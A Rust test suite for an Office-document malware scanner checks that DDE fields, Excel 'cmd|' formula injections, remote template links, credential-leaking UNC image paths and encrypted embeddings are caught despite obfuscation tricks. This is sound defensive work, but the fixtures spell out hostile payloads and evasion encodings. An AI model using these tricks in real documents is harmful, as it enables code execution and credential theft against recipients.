//! Tricks that once hid something from the inspection, each with its control: the same without the trick.

use std::io::{Cursor, Write};

use crate::sample::{DocumentBuilder, Entry, ZipFile, compound_file, encrypted_document, wrapped_file};
use crate::{FindingKind, Kind, Limits, Report, Verdict, inspect};

const MAIN: &str = "word/document.xml";

fn docx() -> DocumentBuilder {
    DocumentBuilder::new(Kind::Docx)
}

fn report(document: &DocumentBuilder) -> Report {
    inspect(Cursor::new(document.build()), &Limits::default()).unwrap()
}

/// Runs a table of documents and the worst finding expected of each; `None` is for clean ones.
fn expect(table: Vec<(&str, DocumentBuilder, Option<FindingKind>)>) {
    for (about, document, expected) in table {
        let report = report(&document);
        let verdict = match expected {
            None => Verdict::Clean,
            Some(kind) if kind.is_blocking() => Verdict::Infected,
            Some(kind) => {
                assert!(kind.is_unseen(), "{about}: {kind:?} changes no verdict");
                Verdict::Unscannable
            }
        };
        assert_eq!(report.verdict(), verdict, "{about}: {report:?}");
        let found = report.findings.iter().any(|finding| Some(finding.kind) == expected);
        assert!(found || expected.is_none(), "{about}: {report:?}");
    }
}

fn run(text: &str) -> String {
    format!("<w:instrText>{text}</w:instrText>")
}

fn mark(mark: &str) -> String {
    format!(r#"<w:fldChar w:fldCharType="{mark}"/>"#)
}

/// A field with this between its beginning and its result.
fn field(instruction: &str) -> String {
    format!("{}{instruction}{}<w:t>x</w:t>{}", mark("begin"), mark("separate"), mark("end"))
}

fn body(runs: &str) -> DocumentBuilder {
    docx().body(&format!("<w:p><w:r>{runs}</w:r></w:p>"))
}

#[test]
fn no_field_hides_behind_a_bound() {
    use FindingKind::{Dde, Unreadable};
    let deep = |count: usize, innermost: &str| {
        body(&format!("{}{innermost}{}", mark("begin").repeat(count), mark("end").repeat(count)))
    };
    let blanks = " ".repeat(5_000);
    expect(vec![
        ("control", body(&field(&run("DDE cmd"))), Some(Dde)),
        ("blanks before it", body(&field(&run(&format!("{blanks}DDE cmd")))), Some(Dde)),
        ("blanks in another run", body(&field(&format!("{}{}", run(&blanks), run("DDE cmd")))), Some(Dde)),
        ("split by a blank that is dropped", body(&field(&format!("{}{}", run("D"), run(" DEAUTO cmd")))), Some(Dde)),
        ("split by an element", body(&field("<w:instrText>D<w:x></w:x>DE cmd</w:instrText>")), Some(Dde)),
        ("as plain text in the field", body(&field("<w:t>DDE cmd</w:t>")), Some(Dde)),
        ("in quotes", body(&field(&run("\"DDE\" cmd"))), Some(Dde)),
        ("63 fields deep", deep(63, &field(&run("DDE cmd"))), Some(Dde)),
        ("70 fields deep", deep(70, &field(&run("DDE cmd"))), Some(Dde)),
        ("fields too deep to follow", deep(70, ""), Some(Unreadable)),
        ("a word of 5,000 letters", body(&field(&run(&"D".repeat(5_000)))), Some(Unreadable)),
        ("5,000 codes", body(&field(&run(&format!("QUOTE {}", "68 ".repeat(5_000))))), Some(Unreadable)),
        (
            "a word that another field works out",
            body(&field(&format!("{}{}", field(&run("DOCPROPERTY a")), run(" cmd")))),
            Some(Unreadable),
        ),
        // What reference managers keep in their fields is long, and does nothing.
        ("a long instruction of another kind", body(&field(&run(&format!("ADDIN {}", "x".repeat(9_000))))), None),
        ("a result within a condition", body(&field(&format!("{}{}", run("IF "), field(&run("PAGE"))))), None),
        ("a sum of fields", body(&field(&format!("{}{}", run("="), field(&run("PAGE"))))), None),
    ]);
}

#[test]
fn no_part_hides_by_being_unreadable() {
    use FindingKind::{Dtd, Unreadable};
    let bad = |xml: Vec<u8>| docx().part("word/footer1.xml", xml);
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let utf32 = |text: &str| text.chars().flat_map(|one| u32::from(one).to_le_bytes()).collect::<Vec<u8>>();
    let rels = "word/_rels/footer1.xml.rels";
    let mut table = vec![
        ("control", bad(b"<a/>".to_vec()), None),
        ("UTF-16", bad(utf16("\u{FEFF}<a/>")), None),
        ("UTF-32", bad(utf32("\u{FEFF}<a/>")), Some(Unreadable)),
        ("UTF-32 without its mark", bad(utf32("<a/>")), Some(Unreadable)),
        ("UTF-7", bad(b"<?xml version='1.0' encoding='utf-7'?><a>+ADw-</a>".to_vec()), Some(Unreadable)),
        ("another encoding", bad(b"<?xml version='1.0' encoding='iso-2022-jp'?><a/>".to_vec()), Some(Unreadable)),
        ("a DTD", bad(b"<!DOCTYPE a [<!ENTITY b 'DDE'>]><a>&b;</a>".to_vec()), Some(Dtd)),
        (
            "an element too deep",
            bad(format!("{}{}", "<a>".repeat(1_100), "</a>".repeat(1_100)).into()),
            Some(Unreadable),
        ),
        ("an element with a long name", bad(format!("<{0}></{0}>", "a".repeat(1_100)).into()), Some(Unreadable)),
        ("an end that is missing", bad(b"<a>".to_vec()), Some(Unreadable)),
        ("relationships that break off", docx().part(rels, "<Relationships"), Some(Unreadable)),
        ("relationships with a DTD", docx().part(rels, "<!DOCTYPE a><Relationships/>"), Some(Unreadable)),
        (
            "a formula within a name that does not end",
            DocumentBuilder::new(Kind::Xlsx).sheet("<f>'a+cmd|x!A1</f>"),
            Some(Unreadable),
        ),
        ("a Word 2003 document", bad(b"<w:wordDocument xmlns:w='u'/>".to_vec()), Some(Unreadable)),
        (
            "bytes in XML",
            bad(b"<p:package xmlns:p='u'><p:binaryData>AA==</p:binaryData></p:package>".to_vec()),
            Some(Unreadable),
        ),
    ];
    let vml = "<xml xmlns:v='urn:schemas-microsoft-com:vml'><v:imagedata src='a.png'><br></xml>";
    table.push(("VML that is no XML", docx().part("word/drawing.vml", vml), None));
    expect(table);
}

#[test]
fn targets_are_judged_as_they_are_read() {
    use FindingKind::{CredentialLeak, RemoteTemplate};
    let to = |kind: &str, target: &str| docx().relationship(MAIN, kind, target, true);
    let mut table = vec![("control", to("attachedTemplate", "http://e.example/a.dotm"), Some(RemoteTemplate))];
    for target in [
        "ht&#9;tp://e.example/a.dotm",
        "ht&#10;tp:&#13;//e.example/a.dotm",
        "&#32;&#9;http://e.example/a.dotm",
        "&#x200B;http://e.example/a.dotm",
        "%68ttp://e.example/a.dotm",
        "%2568ttp://e.example/a.dotm",
        "hTTp:\\\\e.example/a.dotm",
        "url:http://e.example/a.dotm",
        "\\/e.example/a.dotm",
        "%5c%5Ce.example/a.dotm",
        "\\\\?\\UNC\\e.example\\a.dotm",
        "\\??\\UNC\\e.example\\a.dotm",
        "file:\\\\e.example\\a.dotm",
        "file:////e.example/a.dotm",
        "file://///e.example/a.dotm",
        "file://localhost//e.example/a.dotm",
        "file://a:b@e.example/a.dotm",
        "f&#9;ile://e.example/a.dotm",
    ] {
        table.push((target, to("attachedTemplate", target), Some(RemoteTemplate)));
    }
    for target in [
        "file://localhost/Users/ann/Library/Letter.dotx",
        "file:////Users/ann/Library/Basic%20Cover.dotx",
        "file:////Volumes/Data/a.dotx",
        "file:////Library/a.dotx",
        "file:////private/a.dotx",
        "file:////Applications/a.dotx",
        "file:///C:/Templates/100%25/a.dotx",
        "\\\\?\\C:\\a.dotx",
        "C:\\a.dotx",
        "a%20b.dotx",
    ] {
        table.push((target, to("attachedTemplate", target), None));
    }
    for target in ["\\\\e.example\\a.png", "file://e.example/a.png", "//e.example/a.png", "%2F%2Fe.example/a.png"] {
        for kind in ["image", "audio", "video", "somethingNew"] {
            table.push((target, to(kind, target), Some(CredentialLeak)));
        }
        for kind in ["hyperlink", "externalLinkPath", "mailMergeSource"] {
            table.push((target, to(kind, target), None));
        }
    }
    table.push(("a picture on the web", to("image", "http://e.example/a.png"), None));
    table.push((
        "not said to be external",
        docx().relationship(MAIN, "attachedTemplate", "http://e.example/", false),
        Some(RemoteTemplate),
    ));
    expect(table);
}

#[test]
fn pictures_on_file_servers_are_found_wherever_they_are_named() {
    use FindingKind::CredentialLeak;
    let part = |name: &str, text: &str| docx().part(name, text);
    let namespaces = "xmlns:v='urn:schemas-microsoft-com:vml' xmlns:o='urn:schemas-microsoft-com:office:office'";
    expect(vec![
        ("control", body(&field(&run("INCLUDEPICTURE \"a.png\""))), None),
        ("a field", body(&field(&run("INCLUDEPICTURE \"\\\\\\\\e.example\\\\a.png\" \\d"))), Some(CredentialLeak)),
        ("a field, once", body(&field(&run("INCLUDEPICTURE \\\\e.example\\a.png"))), Some(CredentialLeak)),
        ("a field by URL", body(&field(&run("INCLUDEPICTURE \"file://e.example/a.png\""))), Some(CredentialLeak)),
        ("a field on the web", body(&field(&run("INCLUDEPICTURE \"http://e.example/a.png\""))), None),
        (
            "VML",
            part("word/a.xml", &format!("<a {namespaces}><v:imagedata src='\\\\e.example\\a.png'/></a>")),
            Some(CredentialLeak),
        ),
        (
            "VML of Office",
            part("word/a.xml", &format!("<a {namespaces}><v:fill o:href='//e.example/a.png'/></a>")),
            Some(CredentialLeak),
        ),
        (
            "VML by itself",
            part("word/a.vml", "<xml><v:imagedata src=\"\\\\e.example\\a.png\"><br></xml>"),
            Some(CredentialLeak),
        ),
        (
            "a drawing",
            part("word/a.svg", "<?xml version='1.0'?><svg><image href='//e.example/a'/></svg>"),
            Some(CredentialLeak),
        ),
        (
            "an entity of a drawing",
            part("word/a.svg", "<!DOCTYPE svg [<!ENTITY a '//e.example/a'>]><svg><image href='&a;'/></svg>"),
            Some(CredentialLeak),
        ),
        (
            "a drawing with a DTD",
            part(
                "word/a.svg",
                "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg/>",
            ),
            None,
        ),
        ("a link of a shape", part("word/a.vml", "<xml><v:shape href=\"\\\\e.example\\a.png\"/></xml>"), None),
    ]);
}

#[test]
fn formulas_are_read_as_excel_reads_them() {
    use FindingKind::Dde;
    let sheet = |formula: &str| DocumentBuilder::new(Kind::Xlsx).sheet(&format!("<sheetData>{formula}</sheetData>"));
    expect(vec![
        ("control", sheet("<f>cmd|'/c calc'!A0</f>"), Some(Dde)),
        ("behind a column named by a hash", sheet("<f>SUM(Table1['#])+cmd|'/c calc'!A0</f>"), Some(Dde)),
        ("behind escaped brackets", sheet("<f>T['[]+cmd|'/c calc'!A0</f>"), Some(Dde)),
        ("behind a nested column", sheet("<f>T[[#All],[a'']]]+cmd|'/c calc'!A0</f>"), Some(Dde)),
        ("behind 20,000 characters", sheet(&format!("<f>{}cmd|'/c calc'!A0</f>", "A1+".repeat(7_000))), Some(Dde)),
        ("split by an element", sheet("<f>cmd<x></x>|'/c calc'!A0</f>"), Some(Dde)),
        ("in a rule", sheet("<formula1>cmd|'/c calc'!A0</formula1>"), Some(Dde)),
        ("a column named with a bar", sheet("<f>Table1[[#This Row],[Net|Gross]]*2</f>"), None),
        ("a text with a bar", sheet("<f>A1&amp;\"|\"&amp;B1</f>"), None),
        ("a sheet named with a bar", sheet("<f>'a''|b'!A1</f>"), None),
    ]);
}

fn packed(name: &str, data: &[u8], flags: u16) -> Vec<u8> {
    let entry = Entry { flags, ..Entry::stored(name, data) };
    ZipFile { entries: vec![entry, Entry::stored("b.txt", "x")], ..ZipFile::default() }.build()
}

fn crowded(count: usize, name: &str) -> Vec<u8> {
    let entries = (0..count).map(|number| Entry::stored(&format!("{name}{number}"), "x")).collect();
    ZipFile { entries, ..ZipFile::default() }.build()
}

/// What is larger than is read is no bomb by that alone.
#[test]
fn limits_on_archives_are_told_for_what_they_are() {
    for (about, archive, expected) in [
        ("a full archive", crowded(20_000, ""), None),
        ("an archive of too many files", crowded(20_001, ""), Some("it has more than 20,000 entries")),
        ("an archive of long names", crowded(300, &"n".repeat(30_000)), Some("its ZIP directory is larger than 8 MiB")),
    ] {
        let report = report(&docx().embed("a.zip", "").entry(Entry::stored("word/embeddings/a.zip", archive)));
        let verdict = if expected.is_some() { Verdict::Unscannable } else { Verdict::Clean };
        assert_eq!(report.verdict(), verdict, "{about}: {report:?}");
        assert_eq!(report.first_unseen().map(|finding| finding.detail.as_str()), expected, "{about}");
    }
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn what_is_closed_is_not_clean() {
    use FindingKind::{ClosedArchive, EncryptedEmbedding, Executable, Unreadable};
    let object = compound_file(&[("CONTENTS", b"x")]);
    let change = |at: usize, to: u8| {
        let mut object = object.clone();
        object[at] = to;
        object
    };
    let embed = |data: &[u8]| docx().embed("a.bin", data);
    let wrap = |name: &str, data: &[u8]| docx().embed("a.bin", wrapped_file(name, data));
    let tar = [vec![b'a'; 257], b"ustar\0".to_vec(), vec![0; 300]].concat();
    let program = [b"MZ".as_slice(), &[0; 58], &[64, 0, 0, 0], b"PE\0\0"].concat();
    let deep = format!("<?xml version='1.0'?>{}", "<a>".repeat(1_100)).into_bytes();
    let encrypted_sheet = [9, 8, 2, 0, 0, 6, 0x2F, 0, 2, 0, 0, 0, 10, 0, 0, 0];
    let word = |flags: u8| [[0xEC, 0xA5].as_slice(), &[0; 9], &[flags]].concat();
    expect(vec![
        ("control", embed(&object), None),
        ("an encrypted archive", wrap("a.zip", &packed("a.txt", b"x", 1)), Some(EncryptedEmbedding)),
        ("an archive", wrap("a.zip", &packed("a.txt", b"x", 0)), None),
        ("a 7z archive", wrap("a.pdf", b"7z\xBC\xAF\x27\x1C\0\x04"), Some(ClosedArchive)),
        (
            "a 7z archive that nothing leads to",
            docx().part("word/media/a.png", b"7z\xBC\xAF\x27\x1C\0\x04"),
            Some(ClosedArchive),
        ),
        ("a RAR archive", wrap("a.rar", b"Rar!\x1A\x07\x01\0"), Some(ClosedArchive)),
        ("a disk image", wrap("a.iso", b"x"), Some(ClosedArchive)),
        ("a compressed program", wrap("a.gz", &gzip(&program)), Some(Executable)),
        ("a compressed picture", docx().part("word/media/image1.emz", gzip(b"picture")), None),
        ("a compressed tar archive", wrap("a.tgz", &gzip(&tar)), Some(ClosedArchive)),
        ("a compressed file that breaks off", wrap("a.gz", &gzip(b"picture")[..15]), Some(Unreadable)),
        ("an encrypted document", embed(&encrypted_document()), Some(EncryptedEmbedding)),
        ("an encrypted workbook", embed(&compound_file(&[("Workbook", &encrypted_sheet)])), Some(EncryptedEmbedding)),
        ("an encrypted text", embed(&compound_file(&[("WordDocument", &word(1))])), Some(EncryptedEmbedding)),
        ("a text", embed(&compound_file(&[("WordDocument", &word(0))])), None),
        ("an encrypted PDF file", wrap("a.pdf", b"%PDF-1.7\ntrailer <</Encrypt 5 0 R>>"), Some(EncryptedEmbedding)),
        ("a PDF file", wrap("a.pdf", b"%PDF-1.7\ntrailer <</Root 5 0 R>>"), None),
        (
            "an encrypted OpenDocument file",
            wrap("a.odt", &packed("META-INF/manifest.xml", b"<a><encryption-data/></a>", 0)),
            Some(EncryptedEmbedding),
        ),
        (
            "an OpenDocument file of old, with a DTD",
            wrap("a.odt", &packed("META-INF/manifest.xml", b"<!DOCTYPE a><a/>", 0)),
            None,
        ),
        ("an XML file that breaks off", wrap("a.xml", b"<?xml version='1.0'?><a>"), None),
        ("an XML file that is too deep", wrap("a.xml", &deep), Some(Unreadable)),
        (
            "an XML file with a DTD",
            wrap("a.plist", b"<?xml version='1.0'?><!DOCTYPE plist PUBLIC '' ''><plist/>"),
            None,
        ),
        (
            "a Word 2003 document",
            wrap("a.xml", b"<?xml version='1.0'?><w:wordDocument xmlns:w='u'/>"),
            Some(Unreadable),
        ),
        ("a head with a wrong magic", embed(&change(0, 0)), Some(Unreadable)),
        ("a head with wrong sectors", embed(&change(30, 7)), Some(Unreadable)),
        ("a stream that ends early", embed(&change(512 + 4 * 3, 0xFE)), Some(Unreadable)),
        ("an object that is none", embed(b"anything"), Some(Unreadable)),
        ("a workbook that breaks off", embed(&compound_file(&[("Workbook", &[0xFF; 5_000])])), Some(Unreadable)),
        (
            "a program beside an encrypted entry",
            wrap("a.zip", &{
                let entries = vec![Entry { flags: 1, ..Entry::stored("a", "x") }, Entry::stored("b", program.clone())];
                ZipFile { entries, ..ZipFile::default() }.build()
            }),
            Some(Executable),
        ),
    ]);
}

#[test]
fn links_of_objects_to_file_servers_are_found() {
    let moniker = [3, 3, 0, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
    let link = |path: &str| {
        let length = u32::try_from(path.len() + 1).unwrap().to_le_bytes();
        let stream = [&[0; 20], moniker.as_slice(), &[0, 0], &length, path.as_bytes(), &[0]].concat();
        docx().embed("a.bin", compound_file(&[("\u{1}Ole", &stream)]))
    };
    expect(vec![
        ("control", link("C:\\a.xlsx"), None),
        ("on a file server", link("\\\\e.example\\a.xlsx"), Some(FindingKind::RemoteObject)),
    ]);
}

#[test]
fn verdicts_count_what_is_not_kept() {
    let notes: String = (0..300).map(|number| field(&run(&format!("INCLUDETEXT {number}")))).collect();
    let document = body(&notes).part("word/footer1.xml", "<a>");
    let report = report(&document);
    assert!(report.truncated);
    assert_eq!(report.verdict(), Verdict::Unscannable);
    assert_eq!(report.first_unseen().map(|finding| finding.kind), Some(FindingKind::Unreadable));
}
